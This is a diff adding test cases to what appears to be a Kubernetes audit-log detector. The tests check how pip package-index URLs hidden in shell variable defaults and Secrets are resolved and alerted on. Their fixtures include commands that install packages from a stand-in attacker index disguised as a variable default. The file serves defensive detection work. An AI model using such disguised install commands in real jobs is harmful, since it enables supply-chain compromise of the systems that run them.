@@ -86,6 +86,33 @@ describe('Kubernetes: an index the audit log cannot show', () => {
     expect(token.ml?.job?.package_sources_unverifiable).toBeUndefined();
   });
 
+  it('`-i ${IDX:-URL}` of a variable the request does not set judges its default (what runs when IDX is unset) and still says IDX may override it', () => {
+    const evil = pytorchJob({ command: sh(`pip install -i \${IDX:-${EVIL}} helpers && torchrun train.py`) });
+    expect(evil.ml?.job?.package_sources).toEqual([EVIL]);
+    expect(evil.ml?.job?.package_sources_unverifiable).toEqual([`-i \${IDX:-${EVIL}}: IDX not set in the request (it may override the default, which is judged)`]);
+    const [alert, ...more] = alertsOf([evil]);
+    expect(more).toEqual([]);
+    expect(alert!.severity).toBe('high');
+    expect(alert!.details).toMatchObject({ package_sources: [EVIL], package_sources_unverifiable: [`-i \${IDX:-${EVIL}}: IDX not set in the request (it may override the default, which is judged)`] });
+    // An allowed default: only the possible override is left, the medium finding of a hidden source.
+    const pypi = pytorchJob({ command: sh('pip install --index-url "${IDX-https://pypi.org/simple}" helpers') });
+    expect(pypi.ml?.job?.package_sources).toEqual(['https://pypi.org/simple']);
+    expect(alertsOf([pypi]).map((a) => [a.severity, a.details?.package_sources])).toEqual([['medium', undefined]]);
+    // Through an assignment: X=${IDX:-URL} carries the doubt to `-i $X`.
+    expect(packageSourceFactsOf({ command: sh(`X=\${IDX:=${EVIL}}; pip install -i "$X" x`) })).toEqual({ sources: [EVIL], unverifiable: [`-i $X: IDX not set in the request (it may override the default, which is judged)`] });
+  });
+
+  it('`${IDX:-URL}` of a variable the request sets is its value; one from a Secret stays hidden; `${IDX:+URL}` of an unknown IDX is not judged', () => {
+    const set = pytorchJob({ env: [{ name: 'IDX', value: 'https://pypi.org/simple' }], command: sh(`pip install -i \${IDX:-${EVIL}} helpers`) });
+    expect(set.ml?.job?.package_sources).toEqual(['https://pypi.org/simple']);
+    expect(set.ml?.job?.package_sources_unverifiable).toBeUndefined();
+    expect(alertsOf([set])).toEqual([]);
+    // Set empty: `:-` takes the default, `-` the empty value.
+    expect(packageSourceFactsOf({ env: { IDX: '' }, command: sh(`pip install -i \${IDX:-${EVIL}} x`) })).toEqual({ sources: [EVIL], unverifiable: [] });
+    expect(packageSourceFactsOf({ env: [{ name: 'IDX', valueFrom: { secretKeyRef: { name: 'pip', key: 'idx' } } }], command: sh(`pip install -i \${IDX:-${EVIL}} x`) })).toEqual({ sources: [], unverifiable: [`-i \${IDX:-${EVIL}}: IDX from secretKeyRef pip/idx`] });
+    expect(packageSourceFactsOf({ command: sh(`pip install -i \${IDX:+${EVIL}} x`) })).toEqual({ sources: [], unverifiable: [`-i \${IDX:+${EVIL}}: IDX not set in the request`] });
+  });
+
   it('PIP_CONFIG_FILE naming a mounted file is hidden; /dev/null (no config at all) is not', () => {
     const mounted = pytorchJob({ env: [{ name: 'PIP_CONFIG_FILE', value: '/etc/pip/pip.conf' }], command: sh('pip install helpers') });
     expect(mounted.ml?.job?.package_sources_unverifiable).toEqual(['PIP_CONFIG_FILE=/etc/pip/pip.conf: a config file the request does not show']);
